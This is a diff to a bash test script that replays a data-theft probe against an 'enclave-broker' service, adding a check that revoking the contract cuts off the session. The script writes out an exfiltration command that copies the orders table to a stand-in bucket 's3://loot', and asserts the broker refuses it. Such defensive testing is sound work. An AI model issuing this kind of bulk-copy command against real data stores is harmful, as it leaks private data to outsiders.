@@ -1,7 +1,8 @@
 #!/usr/bin/env bash
 # Replay of the classic smash-and-grab probe: enumerate the catalog, dump
 # what the session can see, then try to exfiltrate. The broker serves the
-# scoped reads, alerts on the pattern, and refuses the exfiltration.
+# scoped reads, alerts on the pattern, and refuses the exfiltration; once
+# the contract is revoked, the session serves nothing more.
 #
 # Requires `enclave-broker` and `enclave-brokerd` on PATH (pip install -e .).
 set -euo pipefail
@@ -43,6 +44,12 @@ enclave-broker query "$SESSION" 'SHOW TABLES'
 enclave-broker query "$SESSION" 'SELECT * FROM orders'
 # The exfiltration step must exit 1; reaching `exit 1` here means it was allowed.
 enclave-broker query "$SESSION" 'COPY INTO s3://loot FROM orders' && exit 1 || echo "(denied, exit $?)"
+
+echo
+echo "== revoke: the session dies with its enclave =="
+enclave-broker contract revoke c1 --reason "exfiltration attempt"
+# A query on the revoked session must exit 1; reaching `exit 1` here means it was served.
+enclave-broker query "$SESSION" 'SHOW TABLES' && exit 1 || echo "(denied, exit $?)"
 
 echo
 echo "== what the monitor saw =="
